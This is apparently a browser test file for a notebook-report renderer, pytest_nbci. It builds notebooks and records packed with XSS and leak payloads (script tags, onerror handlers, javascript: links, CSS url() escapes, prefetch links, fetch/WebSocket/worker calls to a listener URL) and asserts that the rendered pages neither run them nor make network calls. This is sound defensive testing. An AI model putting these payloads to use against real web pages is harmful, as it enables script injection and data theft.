"""Nothing of a notebook runs in the page's origin, and nothing in a page calls anybody."""

from __future__ import annotations

import time
from pathlib import Path
from typing import Any

import pytest

from pytest_nbci.pages import render_index, render_page
from pytest_nbci.records import Cell, Commit, FailedCell, Failure, Frame, Record, Session
from tests.browser import Browser
from tests.pages.builders import SESSION, code, error, notebook, prose, record, shown, stream
from tests.pages.conftest import Listener

pytestmark = pytest.mark.browser

RUN = "window.pwned = 1; document.title = 'pwned'"


def leaking_html(url: str) -> str:
    """HTML that tries every way out that it is given."""
    return f"""
<script>{RUN}; fetch('{url}/script-fetch')</script>
<script src="{url}/script-src"></script>
<img src="{url}/img" onerror="{RUN}"><img src=x onerror="{RUN}">
<img srcset="{url}/srcset 2x"><picture><source srcset="{url}/picture"><img></picture>
<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script>
  <image href="{url}/svg-image"/><use href="{url}/svg-use#a"/>
  <foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="{url}/svg-foreign"/></foreignObject>
  <a href="javascript:{RUN}"><text>x</text></a><animate attributeName="href" to="javascript:{RUN}"/></svg>
<a class="lure" href="javascript:{RUN}">click</a><a href="  java\tscript:{RUN}">click</a>
<a href="data:text/html,<script>{RUN}</script>">data</a><a ping="{url}/ping" href="#x">ping</a>
<style>@import url({url}/css-import); body{{background:url({url}/css-body)}}
 @font-face{{font-family:x;src:url({url}/css-font)}} p{{font-family:x;background:u\\72l({url}/css-escape)}}
 :host{{position:fixed}} * {{background-image:image-set("{url}/image-set" 1x)}}</style>
<p style="background:url({url}/css-inline);font-family:x">text</p>
<p style="background:\\75rl({url}/css-inline-escape)">text</p>
<link rel="stylesheet" href="{url}/link-css"><link rel="prefetch" href="{url}/prefetch">
<link rel="preload" as="image" href="{url}/preload"><link rel="preconnect" href="{url}">
<link rel="icon" href="{url}/icon"><link rel="modulepreload" href="{url}/modulepreload">
<link rel="manifest" href="{url}/manifest"><link rel="prerender" href="{url}/prerender">
<meta http-equiv="refresh" content="0;url={url}/meta-refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *"><base href="{url}/base/">
<iframe src="{url}/iframe"></iframe><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>
<object data="{url}/object"></object><embed src="{url}/embed"><applet code="{url}/applet"></applet>
<video src="{url}/video" poster="{url}/poster"></video><audio src="{url}/audio"></audio>
<form action="{url}/form" id="f"><input name="q" autofocus onfocus="{RUN}"><button>go</button></form>
<input type="image" src="{url}/input-image"><button form="f" formaction="{url}/formaction">b</button>
<body background="{url}/body-background" onload="{RUN}"><table background="{url}/table"><tr><td>t</table>
<details open ontoggle="{RUN}"><summary>s</summary></details><marquee onstart="{RUN}">m</marquee>
<template shadowrootmode="open"><img src="{url}/shadow"></template><dialog open onclose="{RUN}">d</dialog>
<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">m</maction></math>
<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>
<script type="speculationrules">{{"prefetch":[{{"source":"list","urls":["{url}/speculation"]}}]}}</script>
"""


def leaking_script(url: str) -> str:
    """A script that tries every way out of the frame that it runs in."""
    return f"""
const leave = (go) => {{ try {{ const r = go(); if (r && r.catch) r.catch(() => 0); }} catch (e) {{}} }};
const add = (tag, attributes) => leave(() => {{
  const e = Object.assign(document.createElement(tag), attributes); document.body.append(e); return 0; }});
leave(() => fetch('{url}/run-fetch', {{mode: 'no-cors'}}));
leave(() => navigator.sendBeacon('{url}/run-beacon', 'x'));
leave(() => {{ const x = new XMLHttpRequest(); x.open('GET', '{url}/run-xhr'); x.send(); }});
leave(() => {{ new WebSocket('{url.replace("http", "ws")}/run-socket'); }});
leave(() => {{ new EventSource('{url}/run-events'); }});
leave(() => import('{url}/run-import.js'));
leave(() => {{ new Worker('{url}/run-worker.js'); }});
leave(() => {{ new Worker(URL.createObjectURL(new Blob(["fetch('{url}/run-blob-worker')"]))); }});
leave(() => {{ new SharedWorker('{url}/run-shared.js'); }});
leave(() => {{ new Image().src = '{url}/run-image'; }});
leave(() => {{ new Audio('{url}/run-audio').play(); }});
leave(() => {{ open('{url}/run-open'); }});
leave(() => {{ top.location = '{url}/run-top'; }});
leave(() => {{ parent.location = '{url}/run-parent'; }});
leave(() => {{ top.pwned = 1; }});
leave(() => {{ parent.document.title = 'pwned'; }});
leave(() => {{ localStorage.x = 1; }});
leave(() => {{ eval('top.pwned = 1'); }});
for (const rel of ['stylesheet', 'prefetch', 'preload', 'modulepreload', 'icon', 'prerender', 'manifest'])
  add('link', {{rel, href: '{url}/run-link-' + rel, as: 'image'}});
add('link', {{rel: 'preconnect', href: '{url}'}});
add('script', {{src: '{url}/run-script.js'}});
add('iframe', {{src: '{url}/run-iframe'}});
add('iframe', {{srcdoc: '<img src="{url}/run-srcdoc">'}});
add('iframe', {{src: URL.createObjectURL(new Blob(['<img src="{url}/run-blob-frame">'], {{type: 'text/html'}}))}});
add('iframe', {{src: 'data:text/html,<img src="{url}/run-data-frame">'}});
add('object', {{data: '{url}/run-object'}});
add('embed', {{src: '{url}/run-embed'}});
add('video', {{src: '{url}/run-video', poster: '{url}/run-poster'}});
leave(() => {{ const s = document.createElement('style'); s.textContent = '@import "{url}/run-import.css"; body {{ background: url({url}/run-css) }}';
  document.head.append(s); return 0; }});
leave(() => {{ const f = document.createElement('form'); f.action = '{url}/run-form'; f.method = 'post'; document.body.append(f); f.submit(); return 0; }});
leave(() => {{ const a = document.createElement('a'); a.href = '{url}/run-anchor'; a.target = '_top'; a.ping = '{url}/run-ping'; document.body.append(a); a.click(); return 0; }});
parent.postMessage({{nbci: 'height', height: 'NaN'}}, '*');
parent.postMessage({{nbci: 'height', height: 1e12}}, '*');
parent.postMessage({{nbci: 'ready'}}, '*');
parent.postMessage(null, '*');
const seen = document.createElement('p'); seen.id = 'it-ran'; seen.textContent = 'it ran'; document.body.append(seen);
setTimeout(() => {{
  leave(() => {{ location = '{url}/run-location'; return 0; }});
  leave(() => {{ const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url={url}/run-meta';
    document.head.append(m); return 0; }});
}}, 2500);
"""


def hostile_notebook(url: str) -> dict[str, Any]:
    html = leaking_html(url)
    spec = {
        "$schema": f"{url}/schema.json",
        "data": {"url": f"{url}/vega-data.csv"},
        "mark": "point",
        "usermeta": {"embedOptions": {"loader": {"baseURL": url}, "actions": True}},
        "encoding": {"x": {"field": "a"}},
    }
    plotly = {
        "data": [
            {
                "type": "scatter",
                "x": [1, 2],
                "y": [1, 2],
                "text": [html, f"<a href='javascript:{RUN}'>x</a>"],
                "mode": "text",
            }
        ],
        "layout": {
            "title": {"text": html},
            "images": [
                {
                    "source": f"{url}/plotly-image",
                    "xref": "paper",
                    "yref": "paper",
                    "sizex": 1,
                    "sizey": 1,
                }
            ],
        },
        "config": {"plotlyServerURL": url, "showSendToCloud": True, "topojsonURL": url},
    }
    widget = {"model_id": "w"}
    return notebook(
        prose(html),
        prose(
            f"[a](javascript:alert(1)) ![b]({url}/md-image) <{url}/auto> $\\href{{javascript:{RUN}}}{{x}}$"
        ),
        prose(
            "![x](attachment:x.svg)",
            attachments={"x.svg": {'image/svg+xml" onerror="x': "AAAA", "image/svg+xml": html}},
        ),
        code(html, stream(html), stream(html, "stderr"), id='"><script>window.pwned=1</script>'),
        code("1", shown({"text/html": html})),
        code(
            "1b",
            shown(
                {
                    "text/html": f"<p>plain</p><style>@import url({url}/only-css);p{{color:red}}</style>"
                }
            ),
        ),
        code(
            "2", shown({"image/svg+xml": html}), shown({"image/png": f'"><script>{RUN}</script>'})
        ),
        code(
            "3",
            shown({"text/markdown": html}),
            shown({"text/latex": f"$\\includegraphics{{{url}/tex}}$"}),
        ),
        code("4", shown({"application/vnd.plotly.v1+json": plotly})),
        code("5", shown({"application/vnd.vegalite.v5+json": spec})),
        code("6", shown({"text/html": f"<script>{leaking_script(url)}</script>{html}"})),
        code("7", shown({"application/javascript": RUN}), shown({f"<script>{RUN}</script>": "x"})),
        code(
            "8",
            shown({"application/json": {html: html}}),
            shown({"application/vnd.jupyter.widget-view+json": widget}),
        ),
        code(
            "9",
            error(html, html, html, f"\x1b]8;;{url}/osc\x07link\x1b]8;;\x07"),
            {"output_type": html},
        ),
        code("10", shown({"application/pdf": f'"><script>{RUN}</script>'})),
        kernelspec={"name": html, "language": html, "display_name": html},
        language_info={"name": html},
        widgets={
            "application/vnd.jupyter.widget-state+json": {
                "state": {"w": {"model_name": html, "state": {"value": html, "description": html}}}
            }
        },
    )


def hostile_record(url: str) -> Record:
    html = leaking_html(url)
    name = f"<img src={url}/name onerror=alert(1)>/a\"'b/javascript:x?#%00/\u202etxt.ipynb"
    return record(
        session=html,
        project=html,
        notebook=name,
        outcome="failed",
        cause=html,
        message=html,
        cure=html,
        error=Failure(html, html, (Frame("cell 1", 1, html, html), Frame(html, 2, html, html))),
        stderr_tail=html,
        started_at=html,
        cells=(Cell('"><script>', 1, 1, 0.1, "passed"), Cell(html, 2, 2, float("nan"), html)),  # type: ignore[arg-type]
        failed_cell=FailedCell(html, 1, html),
        commit=Commit(html, html, html, html, html, html),
        tested_commit=html,
        job={"pipeline": html, "job": html, "url": f"javascript:{RUN}", html: html},
        parameters={html: html},
        profile=html,
        due=html,
        inputs=({"path": html, "bytes": html, "origin": html},),
        environment={html: {html: html}},
        reproduce=html,
        warnings=(html,),
        kept=(html, "../../etc"),
    )


def stir(browser: Browser) -> None:
    """Do what a reader may do: open everything, scroll, press every button, follow no link."""
    browser.run("document.querySelectorAll('details').forEach((d) => { d.open = true })")
    browser.run("document.querySelectorAll('button').forEach((b) => b.click())")
    for part in range(12):
        browser.run(
            "scrollTo({top: document.documentElement.scrollHeight * arguments[0] / 12, behavior: 'instant'})",
            part,
        )
        time.sleep(0.12)
    # The links that look like scripts: nh3 leaves none, so a click on whatever is there is safe.
    browser.run(
        "document.querySelectorAll('main .cell a:not([href^=http])').forEach((a) => a.click())"
    )


def test_the_listener_hears_the_same_html_without_our_page(browser: Browser, listener: Listener):
    listener.pages["/bare"] = (
        f"<!doctype html><body>{leaking_html(listener.url).replace('http-equiv=', 'x=')}"
    )
    browser.open(f"{listener.url}/bare", settle_s=2)
    heard = {call.split("/", 1)[1] for call in listener.leaks}
    assert {"script-fetch", "img", "css-import", "prefetch", "iframe", "video"} <= heard
    assert len(heard) > 20


@pytest.mark.parametrize("origin", ["file", "http"])
def test_a_hostile_notebook_neither_runs_nor_calls(
    origin: str, browser: Browser, listener: Listener, tmp_path: Path
):
    html = render_page(hostile_notebook(listener.url), hostile_record(listener.url))
    listener.pages["/page.html"] = html
    target: Path | str = f"{listener.url}/page.html"
    if origin == "file":
        target = tmp_path / "page.html"
        target.write_text(html, encoding="utf-8")
    browser.open(target)
    address = browser.driver.current_url
    browser.run("document.querySelectorAll('.start').forEach((b) => b.click())")
    time.sleep(1)
    assert any(
        browser.in_frame(index, "return document.getElementById('it-ran') !== null")
        for index in range(len(browser.driver.find_elements("css selector", "iframe")))
    ), "the clicked output did run, inside its frame"
    stir(browser)
    time.sleep(2)
    assert listener.leaks == []
    assert browser.run("return window.pwned") is None
    assert "pwned" not in browser.driver.title
    assert browser.driver.current_url.split("#")[0] == address
    assert len(browser.driver.window_handles) == 1
    assert browser.run(
        "return [...document.querySelectorAll('iframe')].every((f) => f.offsetHeight <= 4100)"
    )


def test_a_hostile_index_neither_runs_nor_calls(
    browser: Browser, listener: Listener, tmp_path: Path
):
    given = hostile_record(listener.url)
    html = leaking_html(listener.url)
    session = Session(
        session=html,
        project=html,
        started_at=html,
        pipeline=html,
        shard=html,
        commit=given.commit,
        profile=html,
    )
    path = tmp_path / "index.html"
    path.write_text(render_index(session, [given, record()]), encoding="utf-8")
    browser.open(path)
    stir(browser)
    assert listener.leaks == []
    assert browser.run("return window.pwned") is None
    assert browser.run("return document.querySelectorAll('main a').length") == 2


def test_a_page_has_one_policy_and_only_our_scripts(listener: Listener):
    html = render_page(hostile_notebook(listener.url), hostile_record(listener.url))
    assert (
        html.count('http-equiv="Content-Security-Policy" content="default-src &#39;none&#39;') == 1
    )
    assert html.index("Content-Security-Policy") < html.index("<script")
    assert SESSION not in html
